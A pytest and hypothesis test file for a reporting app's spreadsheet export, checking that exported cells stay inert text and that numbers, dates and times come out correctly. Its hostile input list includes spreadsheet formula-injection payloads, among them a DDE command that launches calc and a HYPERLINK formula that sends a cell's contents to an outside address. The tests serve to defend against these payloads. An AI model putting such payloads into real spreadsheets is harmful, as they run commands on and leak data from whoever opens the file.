"""Whatever people write stays text in a spreadsheet, and a number stays that number."""

import itertools
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.reports import opened
from tienbo.assignments.models import DeadlineKind
from tienbo.assignments.schemas import AssignmentRead, ProductRead, TaskRead
from tienbo.problems import Text
from tienbo.reports.formats import sheet
from tienbo.reports.formats.listing import Field, Kind, to_xlsx
from tienbo.reports.matrix_xlsx import to_xlsx as matrix_to_xlsx

COLUMNS = 10
# What spreadsheets, or the library that writes them, might take for more than text.
FIRST = ("=", "+", "-", "@", "\t", "\r", "\n", "", " ", "'", "\ufeff", "＝", "{=", "<r>", "_x000D_", "\x00", "%0A")
MIDDLE = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://198.51.100.1/?"&A1,"Xem")',
    "1+1",
    "SUM(1;2)",
    "http://198.51.100.1/",
    "mailto:a@198.51.100.1",
    "internal:Sheet!A1",
    "external:c:\\a.xlsx",
    "1234",
    "TRUE",
    "#REF!",
    "Sở Nội vụ",
    "<t>a</t>",
    "&amp;]]>",
    "\ud800",
    "🙂",
    "x" * 40_000,
)
LAST = ("", "}", "</r>", "\r\n", "_x0041_", " ", "\x0b")
HOSTILE = [first + middle + last for first, middle, last in itertools.product(FIRST, MIDDLE, LAST)]


def written(texts: list[str]) -> tuple[bytes, list[list[str]]]:
    """A list of the texts, so many to a row."""
    rows = [texts[start : start + COLUMNS] for start in range(0, len(texts), COLUMNS)]
    rows[-1] += ["" for _ in range(COLUMNS - len(rows[-1]))]
    fields = [Field(Text(f"={n}", f"={n}"), lambda row, n=n: row[n]) for n in range(COLUMNS)]  # type: ignore[misc] # mypy sees no default of a lambda
    content, count = to_xlsx("=1+1", ["@note"], fields, rows, "vi")
    assert count == len(rows)
    return content, rows


def read(content: bytes) -> list[list[str]]:
    """The rows under title, note and heading; an empty text is no text."""
    rows = opened.typed(content)[3:]
    assert not any(isinstance(cell, Decimal) for row in rows for cell in row)
    return [[str(cell or "") for cell in row] for row in rows]


def kept(text: str) -> str:
    """What does not fit a cell of any spreadsheet is cut, and shown to be."""
    text = sheet.text_of(text)
    assert len(text.encode("utf-16-le")) <= 2 * 32_767
    return text


def test_what_is_cut_says_so() -> None:
    assert kept("a" * 32_767) == "a" * 32_767
    assert kept("a" * 32_768) == "a" * 32_766 + "…"
    assert kept("🙂" * 16_384) == "🙂" * 16_383 + "…"


def test_ten_thousand_hostile_cells_are_text() -> None:
    texts = (HOSTILE * 6)[:10_000]
    content, rows = written(texts)
    assert opened.is_inert(content)
    assert read(content) == [[kept(text) for text in row] for row in rows]


@given(st.lists(st.text(max_size=60), min_size=1, max_size=40))
def test_any_text_is_text(texts: list[str]) -> None:
    content, rows = written(texts)
    assert opened.is_inert(content)
    assert read(content) == [[kept(text) for text in row] for row in rows]


NUMBERS = st.decimals(allow_nan=False, allow_infinity=False, places=6, min_value=-(10**12), max_value=10**12)


@given(st.lists(st.one_of(NUMBERS, st.integers(-(10**18), 10**18)), min_size=1, max_size=40))
def test_a_number_is_that_number(numbers: list[Decimal | int]) -> None:
    fields = [Field(Text("Số", "No."), lambda row: row, Kind.number)]
    content, _ = to_xlsx("Thử", [], fields, numbers, "vi")
    for number, (cell,) in zip(numbers, opened.below(opened.workbook(content), "Số"), strict=True):
        if sheet.holds(number):
            assert not isinstance(cell, str)
            assert Decimal(repr(cell)) == number
        else:
            assert Decimal(cell) == number


def test_a_negative_number_is_no_formula() -> None:
    fields = [Field(Text("Số", "No."), lambda row: row, Kind.number)]
    content, _ = to_xlsx("Thử", [], fields, [Decimal("-5.5"), Decimal(0), None], "vi")
    assert opened.below(opened.workbook(content), "Số") == [[-5.5], [0], [None]]


@pytest.mark.parametrize("given_day", [date(1899, 12, 31), date(1900, 2, 28), date(1900, 3, 1), date(2026, 11, 22)])
def test_a_day_is_that_day(given_day: date) -> None:
    """Before March 1900 spreadsheets disagree about which day a number is, so these are written as text."""
    fields = [Field(Text("Ngày", "Day"), lambda row: row, Kind.date)]
    content, _ = to_xlsx("Thử", [], fields, [given_day], "vi")
    ((cell,),) = opened.below(opened.workbook(content), "Ngày")
    assert cell == (given_day if given_day >= date(1900, 3, 1) else f"{given_day:%d/%m/%Y}")


def test_an_instant_is_shown_in_vietnam() -> None:
    fields = [Field(Text("Lúc", "At"), lambda row: row, Kind.instant)]
    content, _ = to_xlsx("Thử", [], fields, [datetime(2026, 12, 31, 17, 30, 5, tzinfo=UTC)], "vi")
    page = opened.workbook(content)
    ((cell,),) = opened.below(page, "Lúc")
    assert cell == datetime(2027, 1, 1, 0, 30, 5)  # noqa: DTZ001 -- a spreadsheet knows no zones
    assert page.cell(page.max_row, 1).number_format == "dd/mm/yyyy hh:mm"


def test_a_row_is_as_high_as_its_text() -> None:
    fields = [Field(Text("Tên", "Name"), lambda row: row, width=20)]
    content, _ = to_xlsx("Thử", [], fields, ["Sở Nội vụ", "Ủy ban nhân dân " * 10, "a\nb\nc"], "vi")
    page = opened.workbook(content)
    heights = [page.row_dimensions[page.max_row - place].height or 0 for place in (2, 1, 0)]
    assert heights == pytest.approx([sheet.points(1), sheet.points(8), sheet.points(3)], abs=0.3)


def hostile_task(number: int, texts: list[str]) -> TaskRead:
    content, product, time, funding, responsible, heading = texts
    row = AssignmentRead(
        id=number,
        lead=[],
        coordinating=[],
        deadline_kind=DeadlineKind.none,
        deadline_on=None,
        original_deadline_on=None,
        time=time,
        funding=funding,
        funding_source=content,
        responsible=responsible,
    )
    return TaskRead(
        id=number,
        number=content[:20],
        heading=heading,
        content=content,
        clause=None,
        implements=None,
        removed_on=None,
        removal_reason=None,
        indicator_ids=[],
        products=[ProductRead(id=number, text=product)],
        assignments=[row, row],
    )


@pytest.mark.parametrize("part", range(4))
def test_a_hostile_matrix_is_text(part: int) -> None:
    texts = [text[:5_000] for text in HOSTILE[part::4]][:240]
    tasks = [hostile_task(place, texts[place : place + 6]) for place in range(0, len(texts) - 5, 6)]
    content = matrix_to_xlsx("=1+1", ["@note"], tasks, "vi")
    assert opened.is_inert(content)
    cells = {cell for row in opened.typed(content) for cell in row}
    for task in tasks:
        for text in (task.content, task.products[0].text, task.assignments[0].time, task.heading):
            assert kept(text or "") in cells | {""}
